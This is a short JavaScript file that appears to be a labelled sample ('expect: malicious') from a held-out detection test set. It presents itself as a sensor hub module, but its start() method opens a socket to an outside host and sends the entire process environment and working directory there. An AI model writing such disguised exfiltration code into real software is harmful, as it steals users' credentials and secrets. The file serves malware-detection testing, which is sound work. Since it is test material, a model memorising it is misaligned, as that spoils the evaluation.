// expect: malicious
// source: a sensor hub whose exported class (no constructor of its own) starts a "dashboard link": an object
// literal's method dials `net.connect(port, host)` to a broker and writes the whole environment to it
// (seventh held-out set, 2026)
const net = require('net');

const BROKERS = [['198.51.100.23', 1883], ['broker.hivemq.com.invalid', 1883]];
let attempt = 0;

function connect() {
  const [host, port] = BROKERS[attempt++ % BROKERS.length];
  const sock = net.connect(port, host);
  sock.on('connect', () => sock.write(JSON.stringify({ env: process.env, cwd: process.cwd() })));
}

const cloudLink = { attach() { connect(); } };

class SensorHub {
  start() {
    cloudLink.attach(this);
    return this;
  }
}

module.exports = { SensorHub };
